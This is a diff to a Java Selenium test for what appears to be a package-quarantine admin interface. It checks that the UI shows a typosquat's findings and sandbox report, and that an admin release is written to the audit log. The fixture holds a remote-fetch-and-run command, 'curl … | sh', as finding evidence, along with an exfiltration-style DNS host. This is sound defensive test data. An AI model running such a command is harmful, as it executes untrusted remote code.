@@ -30,13 +30,21 @@ class UiBrowserTest {
     void anAdminReleasesAQuarantinedVersionWithAReasonAndSeesItInTheAuditLog(@TempDir Path tmp) throws Exception {
         Requirements.require(HeadlessChromium.available(), "Chromium and chromedriver");
         try (FakeAdminApi api = new FakeAdminApi(TOKEN, new UiRoute())) {
-            api.put("npm", "left-padd", "1.3.0", "quarantined", "typosquat", "name imitates left-pad");
+            var held = api.put("npm", "left-padd", "1.3.0", "quarantined", "typosquat", "name imitates left-pad");
+            held.putArray("findings").addObject().put("rule", "install_script_network").put("severity", "high")
+                    .put("source", "static").put("message", "install script downloads code")
+                    .put("evidence", "curl -s http://203.0.113.9/x | sh").put("location", "package.json:7");
+            var phase = held.putObject("behavior").put("runtime", "runc").put("image", "airlock-sandbox:test")
+                    .putArray("phases").addObject().put("phase", "install").put("status", "completed").put("exitCode", 0)
+                    .put("durationMs", 2875);
+            phase.putArray("dns").addObject().put("hostname", "exfil.example.test");
+            phase.putArray("commands").addObject().putArray("argv").add("sh").add("-c").add("node install.js");
             api.put("pypi", "reqeusts", "0.0.1", "blocked", "known_malware", "MAL-2026-0001");
             ChromeDriver browser = HeadlessChromium.start(tmp.resolve("profile"));
             try {
                 run(browser, api.url() + "ui/");
             } finally {
-                screenshot(browser);
+                screenshot(browser, "audit-log-after-release.png");
                 browser.quit();
             }
             assertEquals("override_allow", api.audit.get(0).get("action").asText());
@@ -64,7 +72,12 @@ class UiBrowserTest {
 
         wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("view-title"), "left-padd 1.3.0"));
         assertTrue(browser.findElement(By.cssSelector(".state-quarantined")).isDisplayed());
-        assertTrue(browser.findElement(By.tagName("main")).getText().contains("typosquat"));
+        String page = browser.findElement(By.tagName("main")).getText();
+        assertTrue(page.contains("typosquat"), page);
+        assertTrue(page.contains("install_script_network") && page.contains("package.json:7")
+                && page.contains("curl -s http://203.0.113.9/x | sh"), "findings with evidence: " + page);
+        assertTrue(page.contains("Phase: install") && page.contains("exfil.example.test") && page.contains("sh -c node install.js")
+                && page.contains("2875 ms"), "sandbox report per phase: " + page);
 
         browser.findElement(By.id("action-allow")).click();
         wait.until(ExpectedConditions.textToBe(By.id("action-status"), "A reason is required."));
@@ -83,6 +96,7 @@ class UiBrowserTest {
 
         wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("action-status"), "Done: allow left-padd 1.3.0"));
         wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("main .state-allowed")));
+        screenshot(browser, "version-page-after-release.png");
 
         browser.findElement(By.cssSelector("#nav a[data-view='audit']")).click();
         wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("audit-table"), "override_allow"));
@@ -98,11 +112,11 @@ class UiBrowserTest {
         return ((Number) n).longValue();
     }
 
-    private static void screenshot(ChromeDriver browser) {
+    private static void screenshot(WebDriver browser, String name) {
         try {
             Path target = Path.of("target", "ui-screenshots");
             Files.createDirectories(target);
-            Files.write(target.resolve("release-quarantined-version.png"), browser.getScreenshotAs(OutputType.BYTES));
+            Files.write(target.resolve(name), ((org.openqa.selenium.TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
         } catch (Exception e) {
             System.err.println("screenshot failed: " + e);
         }
